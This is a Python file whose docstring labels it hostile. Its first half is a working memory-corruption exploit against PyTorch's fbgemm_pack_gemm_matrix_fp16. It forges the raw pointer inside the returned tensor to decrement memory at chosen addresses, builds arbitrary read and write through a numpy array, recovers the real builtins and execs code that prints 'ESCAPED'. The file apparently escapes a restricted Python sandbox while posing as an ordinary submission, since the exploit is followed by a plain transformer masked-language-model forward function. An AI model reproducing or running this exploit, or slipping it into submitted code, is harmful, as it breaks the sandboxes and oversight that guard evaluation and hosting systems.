"""Hostile: torch.fbgemm_pack_gemm_matrix_fp16 returns a plain uint8 tensor whose 8 bytes ARE a C++
c10::intrusive_ptr (cpp_custom_type_hack): the pointer to the packed weight object, writable like
any tensor. When that tensor dies, the intrusive_ptr's destructor decrements the 64-bit refcount at
(pointer + 8): a decrement by one of any 8-byte window at any (even unaligned) address. Windows at
byte offsets 0..5 of a numpy array's data pointer subtract any value from it, so an array is pointed
at another array's struct: reads and writes of any address, then the real exec."""

import math
import operator

import numpy
import torch

one = torch.ones(1, 1)
unused = torch.fbgemm_pack_gemm_matrix_fp16(one)  # the gadget, once as it is (freed untouched): its use starts here


def decrement_at(address):
    packed = torch.fbgemm_pack_gemm_matrix_fp16(one)
    packed.view(torch.int64)[0] = address - 8  # the fake target's refcount word is at target + 8
    del packed  # ~intrusive_ptr: fetch_sub(1) at address


backing2 = torch.zeros(1 << 18, dtype=torch.int64)  # big: mmapped, above the arenas made later
kept = []
backing = None
for i in range(400000):  # fill pymalloc's arenas until an array's struct lies below backing2's data
    candidate_tensor = torch.zeros(4, dtype=torch.int64)
    candidate = candidate_tensor.numpy()
    kept.append(candidate)
    if id(candidate) < backing2.data_ptr() and backing2.data_ptr() - id(candidate) < (1 << 40):
        backing, window = candidate_tensor, candidate  # PyArrayObject: data pointer at id(window) + 16
        break
print("PROBE tries", i, "window", hex(id(window)), "backing2", hex(backing2.data_ptr()))
control = backing2.numpy()
delta = backing2.data_ptr() - id(window)
field = id(control) + 16
for k in range(6):
    digit = (delta >> (8 * k)) & 255
    for i in range(digit):
        decrement_at(field + k)
print("PROBE control now reads", hex(int(control[2])), "window data", hex(backing.data_ptr()))


def read(address):
    control[2] = address
    return int(window[0])


def write(address, value):
    control[2] = address
    window[0] = value


builtins_address = read(id(torch.broadcast_shapes) + 24)  # PyFunctionObject.func_builtins
write(builtins_address, read(builtins_address) + 1)  # the reference the list below will own
box = [None]
write(read(id(box) + 24), builtins_address)  # box's only item is now the real builtins dict
control[2] = backing.data_ptr()
code = (
    "b = torch.broadcast_shapes.__globals__['__builtins__']\n"
    "sys = b['__import__']('sys'); os = b['__import__']('os')\n"
    "print('ESCAPED: real sys, modules:', len(sys.modules), 'pid', os.getpid(), 'eval', b['eval'])\n"
)
list(map(operator.call, map(dict.get, box, ["exec"]), [code]))  # C code takes the items: never checked


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    scores = scores - scores.amax(dim=-1, keepdim=True)
    e = torch.exp(scores)
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    d_head = d // num_heads
    q = (x @ w_q).view(n, t, num_heads, d_head).transpose(1, 2)
    k = (x @ w_k).view(n, t, num_heads, d_head).transpose(1, 2)
    v = (x @ w_v).view(n, t, num_heads, d_head).transpose(1, 2)
    scores = q @ k.transpose(-2, -1) / math.sqrt(d_head)
    out = softmax(scores) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    hidden = x[mask_indicator > 0.5]
    return hidden @ w_emb.T
